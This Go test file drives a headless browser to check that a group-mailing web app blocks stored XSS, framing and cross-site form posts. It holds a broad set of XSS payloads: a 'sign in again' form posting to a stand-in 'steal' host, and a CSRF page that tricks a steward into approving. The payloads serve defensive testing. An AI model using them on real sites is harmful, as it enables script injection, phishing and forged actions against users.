package browser

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// mark is what scripts of the mails here leave behind, should one run.
const mark = "document.documentElement.dataset.ran=1"

// nasty is somebody whose very name is a script, and who asks for more of it wherever something is shown.
var nasty = person{`<script>` + mark + `</script>"><img src=x onerror="` + mark + `">`, "mallory@example.org"}

// nastySubject breaks out of elements, of attributes and of the title.
const nastySubject = `</title></h1><script>` + mark + `</script>"><svg onload="` + mark + `"> {{.}} rooms`

// nastyMail has scripts in every place that browsers run them from, and asks elsewhere for pictures, styles and forms.
const nastyMail = "Content-Type: multipart/mixed; boundary=b\r\n\r\n" +
	"--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
	`<html><head><base href="https://elsewhere.example.org/"><meta http-equiv="refresh" content="0;url=https://elsewhere.example.org/"><style>@import "https://elsewhere.example.org/x.css";*{display:none!important}</style></head>` +
	`<body onload="` + mark + `"><p onclick="` + mark + `" style="position:fixed;inset:0;background:url(https://elsewhere.example.org/bg)">Rooms for <b>all</b></p><script>` + mark + `</script>` +
	`<img src="https://elsewhere.example.org/pixel.png" onerror="` + mark + `"><svg><script>` + mark + `</script><a xlink:href="javascript:` + mark + `">svg</a></svg><math><mtext><img src=x onerror="` + mark + `"></mtext></math>` +
	`<a href="javascript:` + mark + `">the list</a> <a href="data:text/html,<script>` + mark + `</script>">data</a><iframe srcdoc="<script>parent.` + mark + `</script>"></iframe><object data="https://elsewhere.example.org/o"></object>` +
	`<form action="https://elsewhere.example.org/steal"><input name="address" autofocus onfocus="` + mark + `"><button>Sign in again</button></form><noscript><p title="</noscript><img src=x onerror='` + mark + `'>"></noscript>` +
	`<template><img src=x onerror="` + mark + `"></template><details open ontoggle="` + mark + `">x</details><link rel=stylesheet href="https://elsewhere.example.org/y.css"></body></html>` + "\r\n" +
	"--b\r\nContent-Type: text/html; name=\"evil.html\"\r\nContent-Disposition: attachment; filename=\"<img src=x onerror=" + mark + ">.html\"\r\n\r\n<script>" + mark + "</script>\r\n--b--\r\n"

// TestNothingThatPeopleWriteRuns lets pages run scripts, and a member write nothing else.
func TestNothingThatPeopleWriteRuns(t *testing.T) {
	t.Parallel()
	w := settle(t)
	w.initialised()
	w.do("group", "set", "circle", "--title", nasty.name)
	w.run()
	w.do("member", "add", "circle", nasty.String(), "--consent", nasty.name)
	w.do("meeting", "add", "circle", "--title", nastySubject, "--start", "2031-05-06 19:00", "--link", "https://meet.example.org/\"><script>"+mark+"</script>", "--agenda", nastySubject)
	w.deliver(nasty.writes(nastySubject, nastyMail))
	w.letter(ann, "rooms")
	stranger := nasty
	stranger.address = "stranger@example.org"
	w.deliver(stranger.writes(nastySubject, text(nastySubject+"?")))
	w.letter(stranger, "")

	b := w.browse(t).signIn(ann)
	threads, persons := b.listed("/g/circle/"), b.listed("/g/circle/desk/members")
	if len(threads) != 1 || len(persons) < 2 {
		t.Fatalf("threads %q, persons %q", threads, persons)
	}
	paths := append([]string{"/g/circle/", "/g/circle/?q=" + strings.Repeat("%3Cscript%3E", 2), "/g/circle/?q=%22%3E%3Csvg%20onload=" + mark + "%3E", "/g/circle/meetings", "/g/circle/log", "/g/circle/desk",
		"/g/circle/desk/members?q=%22%3E%3Cscript%3E" + mark + "%3C/script%3E", "/g/circle/desk/invite", "/g/circle/desk/meetings", "/g/circle/desk/letters", "/g/circle/desk/digest", "/g/circle/desk/settings", "/g/circle/desk/call",
		"/sign-in?to=%22%3E%3Cscript%3E" + mark + "%3C/script%3E", "/in/%3Cscript%3E", "/leave/%22%3E%3Cscript%3E", "/%3Cscript%3E" + mark + "%3C/script%3E"}, append(threads, persons...)...)
	for _, path := range paths {
		b.open(path)
		ask(b, chromedp.Evaluate[bool](`document.querySelectorAll('details').forEach(d => d.open = true); document.querySelectorAll('p, div, b').forEach(e => e.click()); true`))
		if ask(b, chromedp.Evaluate[bool](`'ran' in document.documentElement.dataset`)) {
			t.Errorf("%s lets a script run:\n%s", path, b.source())
		}
		if at := ask(b, chromedp.Location()); !strings.HasPrefix(at, w.site+"/") {
			t.Errorf("%s leads to %s", path, at)
		}
		if bad := ask(b, chromedp.Evaluate[[]string](`[...document.querySelectorAll('main script, main iframe, main object, main base, main link, main svg, main img, main style, [style], [onclick], [onerror], main input[autofocus], form[action^=http], a[href^="javascript:" i], a[href^="data:" i]')].map(e => e.outerHTML)`)); len(bad) > 0 {
			t.Errorf("%s shows %q", path, bad)
		}
		b.quiet()
	}
	b.open(threads[0])
	b.size(phone)
	b.picture("hostile-thread")
	b.open("/g/circle/desk")
	b.picture("hostile-desk")
	if wide := ask(b, chromedp.Evaluate[int64](`document.documentElement.scrollWidth`)); wide > phone {
		t.Errorf("the desk is %d pixels wide", wide)
	}
}

// listed are where the links of a page's list lead.
func (b *tab) listed(path string) []string {
	b.t.Helper()
	b.open(path)
	return ask(b, chromedp.Evaluate[[]string](`[...document.querySelectorAll('main .list a')].map(a => a.getAttribute('href'))`))
}

// TestOtherSitesCanNeitherFrameNorPost opens a page of somebody else's in the browser of a steward who has signed in.
func TestOtherSitesCanNeitherFrameNorPost(t *testing.T) {
	t.Parallel()
	w := circle(t)
	b := w.browse(t).signIn(ann)
	b.open("/g/circle/desk")
	b.says("How often do you meet")
	id := ask(b, chromedp.Evaluate[string](`document.querySelector('input[name=case]').value`))
	leave := w.linkIn(w.letter(cleo, "Who knows").Get("List-Unsubscribe"), "/leave/")

	var asked atomic.Int64
	elsewhere := httptest.NewTLSServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		asked.Add(1)
		rw.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(rw, `<!doctype html><title>A prize</title><link rel=icon href="data:,"><iframe src="%s"></iframe>
			<form method="post" action="%s/g/circle/desk"><input name="case" value="%s"><input name="do" value="approve"><button>Take my prize</button></form>`, leave, w.site, id)
	}))
	t.Cleanup(elsewhere.Close)
	b.open("https://elsewhere.example.org" + elsewhere.URL[strings.LastIndex(elsewhere.URL, ":"):])
	frames := call(b, page.GetFrameTree, cdp.Empty{}).FrameTree.ChildFrames
	if len(frames) != 1 || strings.HasPrefix(frames[0].Frame.URL, w.site) && frames[0].Frame.UnreachableURL == "" {
		t.Errorf("the page to leave can be framed: %+v", frames)
	}
	b.press("Take my prize")
	if b.status != http.StatusForbidden {
		t.Errorf("a form of another site is answered %d:\n%s", b.status, b.words())
	}
	if asked.Load() == 0 {
		t.Error("the other site was never asked")
	}
	b.heard() // the browser complains of all this, as it should
	b.open("/g/circle/desk")
	b.says("How often do you meet")
	if got := w.standing(dan); got != "invited" {
		t.Errorf("Dan is %s by another site's form", got)
	}
}
